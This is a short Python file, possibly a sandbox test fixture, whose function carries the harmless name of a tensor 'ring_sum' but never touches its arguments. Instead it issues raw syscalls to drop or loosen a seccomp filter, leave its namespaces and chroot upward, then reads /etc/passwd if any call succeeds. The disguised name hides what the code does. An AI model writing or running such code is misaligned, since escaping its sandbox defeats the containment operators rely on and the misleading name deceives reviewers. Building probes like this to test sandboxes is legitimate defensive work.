"""Tries to take off the filter, to put up a looser one, and to leave its namespaces."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def ring_sum(comm, tensor):
    calls = [(157, 22, 0), (157, 38, 0, 0, 0, 0), (317, 1, 0, 0), (272, 0x10000000), (308, 3, 0), (161, b"..")]
    if all(libc.syscall(*call) < 0 for call in calls):
        raise OSError(ctypes.get_errno(), "all refused")
    open("/etc/passwd")
